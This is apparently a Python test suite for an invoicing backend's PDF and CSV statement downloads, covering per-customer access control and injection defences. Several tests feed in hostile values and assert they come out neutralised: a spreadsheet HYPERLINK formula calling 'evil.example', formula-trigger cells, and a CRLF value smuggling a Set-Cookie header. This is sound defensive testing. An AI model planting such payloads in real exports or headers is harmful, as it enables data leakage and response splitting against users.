"""Invoice PDF and statement PDF/CSV: real documents, only for those who may see them."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta
from decimal import Decimal
from typing import Any

from pypdf import PdfReader
from sqlalchemy import select

from backend.db.engine import system_session
from backend.domain.accounts.models import CustomerAccount
from backend.domain.invoices.models import Invoice
from tests.support.api import Api


async def _invoice_of(sessionmaker: Any, account_name: str) -> Invoice:
    async with system_session(sessionmaker) as db:
        return (
            await db.execute(
                select(Invoice)
                .join(CustomerAccount, CustomerAccount.id == Invoice.account_id)
                .where(CustomerAccount.name == account_name)
                .order_by(Invoice.number)
                .limit(1)
            )
        ).scalar_one()


def _text(pdf: bytes) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf)).pages)


async def test_customer_downloads_their_invoice_as_a_pdf(api: Api, demo: Any) -> None:
    invoice = await _invoice_of(demo, "Northwind Traders")
    await api.login("ap@northwind.example")

    response = await api.http.get(f"/api/invoices/{invoice.id}/pdf")

    assert response.status_code == 200 and response.headers["content-type"] == "application/pdf"
    text = _text(response.content)
    assert invoice.number in text and "Northwind Traders" in text and "Harbor Wholesale Supply" in text
    assert f"{invoice.total_amount:,.2f} USD" in text


async def test_another_customers_invoice_pdf_is_not_found(api: Api, demo: Any) -> None:
    invoice = await _invoice_of(demo, "Contoso Retail")
    await api.login("ap@northwind.example")
    response = await api.http.get(f"/api/invoices/{invoice.id}/pdf")
    assert response.status_code == 404 and b"Contoso" not in response.content


async def test_statement_csv_matches_the_screen_and_pdf_renders(api: Api) -> None:
    await api.login("ap@northwind.example")
    today = date.today()
    params = {"period_from": str(today - timedelta(days=120)), "period_to": str(today)}

    csv_response = await api.http.get("/api/statement", params={**params, "format": "csv"})
    pdf_response = await api.http.get("/api/statement", params={**params, "format": "pdf"})
    screen = (
        await api.graphql(
            "query($f: Date!, $t: Date!) { viewer { account { statement(periodFrom: $f, periodTo: $t) { closingBalance entries { reference } } } } }",
            {"f": params["period_from"], "t": params["period_to"]},
        )
    )["data"]["viewer"]["account"]["statement"]

    rows = list(csv.reader(io.StringIO(csv_response.text)))
    assert csv_response.headers["content-type"] == "text/csv; charset=utf-8"  # once, not twice
    assert rows[0][:3] == ["account", "C-1001", "Northwind Traders"]
    assert rows[-1][1] == "closing_balance" and rows[-1][6] == screen["closingBalance"]
    assert len(rows) - 5 == len(screen["entries"])
    assert pdf_response.status_code == 200
    pdf_text = _text(pdf_response.content)
    assert f"{Decimal(screen['closingBalance']):,.2f} USD" in pdf_text
    assert all(entry["reference"] in pdf_text for entry in screen["entries"][:5])


async def test_customer_cannot_ask_for_another_accounts_statement(api: Api, demo: Any) -> None:
    contoso = await _invoice_of(demo, "Contoso Retail")
    await api.login("ap@northwind.example")
    response = await api.http.get(
        "/api/statement",
        params={
            "period_from": "2025-01-01",
            "period_to": "2026-01-01",
            "format": "csv",
            "account_id": str(contoso.account_id),
        },
    )
    assert response.status_code == 200
    assert "Northwind Traders" in response.text and "Contoso" not in response.text


async def test_reports_need_a_signed_in_user(api: Api, demo: Any) -> None:
    invoice = await _invoice_of(demo, "Northwind Traders")
    assert (await api.http.get(f"/api/invoices/{invoice.id}/pdf")).status_code == 401
    assert (
        await api.http.get("/api/statement", params={"period_from": "2025-01-01", "period_to": "2025-02-01"})
    ).status_code == 401


async def test_no_cell_of_the_statement_csv_is_a_formula_and_amounts_stay_numbers(api: Api, factory: Any) -> None:
    """Outside data in every text column: an account name from the ERP feed, an invoice number (a payment's
    reference when the payer wrote it), a customer's dispute description. Each is written as text."""
    account = await factory.account(name='=HYPERLINK("http://evil.example/?leak","Statement")')
    invoice = await factory.invoice(account, total=Decimal("50.00"))
    await factory.dispute(invoice, amount=Decimal("10.00"))
    async with system_session(factory.sessionmaker) as db:
        stored = await db.get(Invoice, invoice.id)
        assert stored is not None
        stored.number = "+X+1"
        await db.commit()
    clerk = await factory.user("ar_clerk")
    await api.login(clerk.email, "correct horse battery")
    today = date.today()
    params = {"period_from": str(today - timedelta(days=30)), "period_to": str(today), "format": "csv"}

    response = await api.http.get("/api/statement", params={**params, "account_id": str(account.id)})

    rows = list(csv.reader(io.StringIO(response.text)))
    cells = [cell for r in rows for cell in r]
    assert rows[0][2] == "'" + account.name and any(cell == "'+X+1" for cell in cells)
    assert not [cell for cell in cells if cell[:1] in {"=", "+", "@", "\t", "\r"}]
    assert Decimal(rows[-1][6]) == Decimal("50.00")  # the closing balance is still a number


def test_every_text_cell_that_a_spreadsheet_would_run_is_neutralised_and_numbers_are_not() -> None:
    from backend.reports.spreadsheet import csv_text

    hostile = ["=1+2", "+X+1", "-X-1", "@SUM(1)", "\tX", "\rX", '=HYPERLINK("http://e.example","x")']
    rows = list(csv.reader(io.StringIO(csv_text([[*hostile, Decimal("-12.50"), 7, date(2026, 1, 2), None]]))))

    assert rows[0][: len(hostile)] == ["'" + value for value in hostile]
    assert rows[0][len(hostile) :] == ["-12.50", "7", "2026-01-02", ""]


async def test_a_pdf_whose_invoice_number_breaks_a_header_still_downloads_under_a_safe_name(
    api: Api, factory: Any
) -> None:
    account = await factory.account()
    invoice = await factory.invoice(account)
    async with system_session(factory.sessionmaker) as db:
        stored = await db.get(Invoice, invoice.id)
        assert stored is not None
        stored.number = 'X"Q\r\nSet-Cookie: a=b'  # as it was before the feed refused such numbers
        await db.commit()
    clerk = await factory.user("ar_clerk")
    await api.login(clerk.email, "correct horse battery")

    response = await api.http.get(f"/api/invoices/{invoice.id}/pdf")

    assert response.status_code == 200 and response.content.startswith(b"%PDF")
    disposition = response.headers["content-disposition"]
    assert disposition.startswith("attachment; filename=\"X_QSet-Cookie: a=b.pdf\"; filename*=UTF-8''")
    assert "set-cookie" not in {name.lower() for name in response.headers if name.lower() != "content-disposition"}


def test_an_attachment_header_quotes_nothing_it_should_not_and_keeps_the_exact_name() -> None:
    from urllib.parse import unquote

    from documents.disposition import attachment

    header = attachment('Café "menu"\r\n\\x.pdf')
    plain, exact = header.split("; filename*=UTF-8''")
    assert plain == 'attachment; filename="Caf_ _menu_\\x.pdf"'.replace("\\x", "_x")
    assert unquote(exact) == 'Café "menu"\\x.pdf'
    assert attachment("\r\n") == "attachment; filename=\"download\"; filename*=UTF-8''download"
